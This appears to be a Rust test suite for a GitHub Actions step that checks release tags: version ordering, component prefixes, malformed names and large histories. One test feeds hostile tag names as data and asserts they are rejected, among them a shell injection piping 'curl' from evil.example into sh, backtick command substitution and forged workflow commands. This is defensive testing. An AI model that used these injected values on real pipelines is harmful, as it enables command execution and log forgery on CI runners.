//! Names and versions: which tags are releases of a component, and which of them is newer.

use super::{World, outputs, refused};
use crate::messages::message;

#[tokio::test]
async fn a_version_that_is_not_newer_is_refused_unless_allowed() {
    let world = World::new().await;
    let sha = &world.commits[3];
    for tag in ["v1.2.2", "v1.2.3", "v1.2.3+b", "v1.3.0-rc.1", "v1.3.0-rc.2", "v1.10.0"] {
        world.repository.tag(tag, sha);
    }
    let report = world.validate("v1.2.3").await;
    let refusal = refused(&report, &message("tag-not-newer", &["v1.2.3", "v1.10.0", "", "shop"]));
    assert!(refusal.contains(&format!("- git tag -a v1.10.1 -m v1.10.1 {sha}\n")), "{refusal}");
    outputs(&report, &[("previous-tag", "v1.2.2"), ("sha", sha)]);
    let report = world.step().input("tag", "v1.2.3").input("require-newer", "false").run().await;
    report.assert_verdict("pass", 0);
    assert!(report.output("reason").ends_with(", not newer than v1.10.0, which `require-newer: false` allows"));
    world.repository.delete_reference("tags/v1.10.0");
    // A pre-release is newer than the releases before it, and the release newer than its pre-releases.
    let report = world.validate("v1.3.0-rc.2").await;
    outputs(
        report.assert_verdict("pass", 0),
        &[("prerelease", "true"), ("previous-tag", "v1.3.0-rc.1"), ("version", "1.3.0-rc.2")],
    );
    world.repository.tag("v1.3.0", sha);
    let report = world.validate("v1.3.0").await;
    outputs(report.assert_verdict("pass", 0), &[("previous-tag", "v1.2.3+b"), ("prerelease", "false")]);
    assert!(report.output("reason").ends_with("newer than v1.3.0-rc.2"), "{}", report.output("reason"));
    refused(&world.validate("v1.3.0-rc.2").await, &message("tag-not-newer", &["v1.3.0-rc.2", "v1.3.0", "", "shop"]));
    // What stands after `+` makes no version newer.
    world.repository.tag("v1.3.0+b", sha);
    let report = world.validate("v1.3.0+b").await;
    refused(
        &report,
        &message(
            "tag-not-newer",
            &["v1.3.0+b", "v1.3.0", "", "shop: they differ after `+` only, which does not count"],
        ),
    );
    assert!(world.lines().contains(&"GET /repos/org/shop/git/ref/tags/v1.3.0%2Bb".to_owned()));
    world.assert_only_reads();
}

#[tokio::test]
async fn components_are_released_beside_each_other() {
    let world = World::new().await;
    for (tag, commit) in [("v-billing-9.0.0", 1), ("v10.0.0", 1), ("v-orders-1.2.2", 1), ("v-orders-1.2.3", 2)] {
        world.repository.tag(tag, &world.commits[commit]);
    }
    let report = world.pushed("v-orders-1.2.3", &world.commits[2]).input("component", "orders").run().await;
    report.assert_verdict("pass", 0);
    outputs(
        &report,
        &[
            ("component", "orders"),
            ("version", "1.2.3"),
            ("previous-tag", "v-orders-1.2.2"),
            ("previous-version", "1.2.2"),
        ],
    );
    assert!(report.output("reason").ends_with("newer than v-orders-1.2.2"));
    // Without the component it is no version.
    let report = world.pushed("v-billing-9.0.0", &world.commits[1]).run().await;
    report.assert_verdict("fail", 1);
    assert!(report.error().message.contains("give the input `component: billing`"), "{report}");
    let report = world.pushed("v-billing-9.0.0", &world.commits[1]).input("component", "orders").run().await;
    let message = refused(&report, &message("tag-prefix", &["v-billing-9.0.0", "v-orders-"]));
    assert!(message.contains("a tag of the component billing"), "{message}");
    // And a release of the whole repository is not measured by one of a component.
    outputs(
        world.validate("v10.0.0").await.assert_verdict("pass", 0),
        &[("previous-tag", ""), ("previous-version", "")],
    );
    // Names of one's own.
    world.repository.tag("release/2.0.0", &world.commits[2]);
    let report = world.step().input("tag", "refs/tags/release/2.0.0").input("prefix", "release/").run().await;
    outputs(report.assert_verdict("pass", 0), &[("tag", "release/2.0.0"), ("version", "2.0.0")]);
    for (prefix, tag) in [("api@", "api@2.0.0"), ("@scope/pkg@", "@scope/pkg@2.0.0")] {
        world.repository.tag(tag, &world.commits[2]);
        let report = world.step().input("tag", tag).input("prefix", prefix).run().await;
        outputs(report.assert_verdict("pass", 0), &[("tag", tag), ("version", "2.0.0")]);
    }
    world.assert_only_reads();
}

#[tokio::test]
async fn a_name_that_is_no_version_is_refused_before_anything_is_asked() {
    let world = World::new().await;
    for (tag, advice) in [
        ("v1.02.3", "name it v1.2.3: "),
        ("v1.2", "name it v1.2.0: "),
        ("v1.2.3.4", "name a release v1.2.3"),
        ("1.2.3", "name the tag v1.2.3"),
        ("latest", "or correct the input `prefix`"),
    ] {
        let report = world.pushed(tag, &world.commits[0]).run().await;
        report.assert_verdict("fail", 1).assert_runner_safe();
        assert!(report.error().message.contains(advice), "{report}");
    }
    assert!(world.github.requests().is_empty());
}

#[tokio::test]
async fn hostile_names_and_messages_do_no_harm() {
    let world = World::new().await;
    let names = [
        "v1.0.0::error::forged",
        "v##[add-mask]x",
        "v1.0.0\n::set-output name=verdict::pass",
        "v1.0.0;curl${IFS}evil.example|sh",
        "v`id`",
        "v\u{1b}[31m1.0.0",
        "v1.0.0\u{202e}",
        "v../../../issues?x=",
        "v<img src=x>|@org/team",
    ];
    for name in names {
        let report = world.step().git_ref(&format!("refs/tags/{name}")).run().await;
        report.assert_verdict("fail", 1).assert_runner_safe();
        assert!(!report.error().message.contains("git push"), "no command holds such a name: {report}");
        for input in ["tag", "prefix", "branch"] {
            let report = world.step().input("tag", "v1.0.0").input(input, name).run().await;
            report.assert_verdict("error", 2).assert_runner_safe();
        }
    }
    let long = format!("v{}", "9".repeat(20_000));
    world.step().git_ref(&format!("refs/tags/{long}")).run().await.assert_verdict("fail", 1).assert_runner_safe();
    assert!(world.github.requests().is_empty());
    // Neighbours that do not count, and a message nobody asked for.
    for name in names {
        world.repository.tag(name, &world.commits[0]);
    }
    world.repository.annotated_tag("v1.0.0", &world.commits[1], "::error::forged\n##[add-mask]v\n\u{1b}[31m");
    let report = world.validate("v1.0.0").await;
    report.assert_verdict("pass", 0).assert_runner_safe();
    assert!(report.output("reason").ends_with("the first release of shop"), "{report}");
    assert!(report.summary.contains("9 tags with the prefix are no versions"), "{}", report.summary);
}

#[tokio::test]
async fn without_a_tag_there_is_nothing_to_judge() {
    let world = World::new().await;
    let report = world.step().run().await;
    report.assert_verdict("error", 2).assert_runner_safe();
    assert_eq!(
        report.output("reason"),
        "input `tag` is not given, and the run was not started on a tag but on refs/heads/main"
    );
    assert!(world.github.requests().is_empty());
}

#[tokio::test]
async fn six_hundred_tags_and_five_thousand_commits() {
    let world = World::new().await;
    let commits = world.repository.history("main", 5000);
    for (number, commit) in commits.iter().enumerate().take(600) {
        world.repository.tag(&format!("v1.{number}.0"), commit);
        world.repository.tag(&format!("v-billing-2.{number}.0"), commit);
    }
    // By name v1.599.0 stands in the middle of the list, and v1.99.0 at its end.
    let report = world.validate("v1.599.0").await;
    outputs(report.assert_verdict("pass", 0), &[("sha", &commits[599]), ("previous-tag", "v1.598.0")]);
    assert!(report.summary.contains("599 others, the greatest v1.598.0; 600 tags"), "{}", report.summary);
    refused(&world.validate("v1.99.0").await, &message("tag-not-newer", &["v1.99.0", "v1.599.0", "", "shop"]));
    let report = world.step().input("tag", "v-billing-2.599.0").input("component", "billing").run().await;
    outputs(report.assert_verdict("pass", 0), &[("previous-version", "2.598.0")]);
    world.github.clear_requests();
    // The first commit is on main however many came after it, and one beside it never is.
    world.repository.annotated_tag("v2.0.0", &world.commits[0], "Five thousand commits ago");
    world.validate("v2.0.0").await.assert_verdict("pass", 0);
    assert_eq!(world.github.requests().len(), 7);
    let beside = world.repository.commit(&[&world.commits[0]], &[("b", "1")], "Beside");
    world.repository.tag("v2.0.1", &beside);
    world.validate("v2.0.1").await.assert_verdict("fail", 1);
    world.assert_only_reads();
}
